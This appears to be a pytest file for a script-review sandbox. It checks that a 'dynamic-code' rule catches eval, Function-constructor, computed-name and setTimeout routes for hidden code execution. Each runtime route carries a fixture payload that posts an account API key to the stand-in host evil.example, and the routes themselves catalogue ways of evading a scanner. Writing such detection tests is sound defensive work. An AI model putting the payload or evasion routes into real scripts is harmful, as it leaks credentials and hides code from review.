"""dynamic-code for every route: seen in the code where it can be, observed at run time always."""

from concurrent.futures import ThreadPoolExecutor

import pytest

from review.engine.sandbox_worker import run_script
from tests.review.helpers import review, static_findings

SETUP = {"hosts": ["api.example.com"], "account": {"apikey": "k"}, "parameters": {}, "report": "Items",
         "responses": [{"method": "GET", "url": "https://api.example.com/me", "body": "DOMO.log(1)"}]}

ROWS = "datagrid.addColumn('a'); datagrid.addCell('x'); datagrid.endRow();\n"
SRC = "'httprequest.post(\"https://evil.example/x\", metadata.account.apikey)'"

# Routes the runtime must observe, even when the script catches the refusal.
RUNTIME_ROUTES = {
    "eval": f"try {{ eval({SRC}); }} catch (e) {{}}\n",
    "Function constructor": f"try {{ new Function({SRC})(); }} catch (e) {{}}\n",
    "constructor of a function": f"try {{ (function () {{}}).constructor({SRC})(); }} catch (e) {{}}\n",
    "Reflect.construct": ("try { Reflect.construct(Object.getPrototypeOf(function () {}).constructor, "
                          f"[{SRC}])(); }} catch (e) {{}}\n"),
    "eval by a computed name": f"var g = this; var n = ['ev', 'al'].join(''); try {{ g[n]({SRC}); }} catch (e) {{}}\n",
    "async function constructor": (f"try {{ Object.getPrototypeOf(async function () {{}}).constructor({SRC}); }} "
                                   "catch (e) {}\n"),
    "generator constructor": f"try {{ Object.getPrototypeOf(function* () {{}}).constructor({SRC}); }} catch (e) {{}}\n",
    "setTimeout with a variable": f"var code = {SRC};\nsetTimeout(code, 0);\n",
    "code downloaded and run": "var body = httprequest.get('https://api.example.com/me');\ntry { eval(body); } catch (e) {}\n",
    "uncaught": f"var f = [].map.constructor;\nf({SRC});\n",
}


def record_of(source):
    with ThreadPoolExecutor(max_workers=1) as executor:
        return executor.submit(run_script, ROWS + source, SETUP, 5, 64).result()["record"]


@pytest.mark.parametrize("name", list(RUNTIME_ROUTES))
def test_it_observes_every_route_at_run_time(name):
    record = record_of(RUNTIME_ROUTES[name])
    assert record["dynamic_code"], record
    assert all(entry["line"] for entry in record["dynamic_code"])
    assert record["requests"] == [] or all(r["host"] == "api.example.com" for r in record["requests"])


@pytest.mark.parametrize("name", list(RUNTIME_ROUTES))
def test_every_route_fails_the_review(name):
    result = review(processdata=ROWS + RUNTIME_ROUTES[name])
    assert "dynamic-code" in {f.rule for f in result.findings}
    assert not any(r["host"] == "evil.example" for r in result.requests)  # the code never ran
    assert result.verdict == "fail"


@pytest.mark.parametrize("name", ["eval by a computed name", "setTimeout with a variable", "uncaught"])
def test_the_runtime_half_reports_what_the_code_hides(name):
    result = review(processdata=ROWS + RUNTIME_ROUTES[name])
    assert [f for f in result.findings if f.rule == "dynamic-code" and "sandbox refused" in f.message]


@pytest.mark.parametrize("source", [
    "var e = eval;\ne('1');\n",
    "var run = window['ev' + 'al'];\n",
    "(function () {}).constructor('return 1')();\n",
    "Object.getPrototypeOf(function () {}).constructor('x');\n",
    "Reflect.construct(Function, ['return 1']);\n",
    "var F = Function;\n",
    "setTimeout('tick()', 10);\n",
    "(0, eval)('1');\n",
])
def test_it_sees_the_routes_the_code_shows(source):
    assert static_findings(source, "dynamic-code")


@pytest.mark.parametrize("source", [
    "if (!Function.prototype.bind) { Function.prototype.bind = function (t) { var f = this; return function () { return f.apply(t, arguments); }; }; }\n",
    "var isFn = function (x) { return x instanceof Function; };\n",
    "setTimeout(function () { datagrid.endRow(); }, 0);\n",
    "var o = { evaluate: 1 }; o.evaluate += 1;\n",
    "function Thing() {}\nThing.prototype.copy = function () { return new this.constructor(); };\n",
])
def test_an_honest_near_miss_is_not_dynamic_code(source):
    assert static_findings(source, "dynamic-code") == []


def test_an_honest_polyfill_and_timer_run_without_a_finding():
    source = ROWS + ("if (!String.prototype.trimStart) { String.prototype.trimStart = function () { return this; }; }\n"
                     "setTimeout(function () { DOMO.log('later'); }, 5);\n"
                     "var isFn = (function () {}) instanceof Function;\n")
    result = review(processdata=source)
    assert not [f for f in result.findings if f.rule in ("dynamic-code", "runtime-error", "sandbox-tampering")]
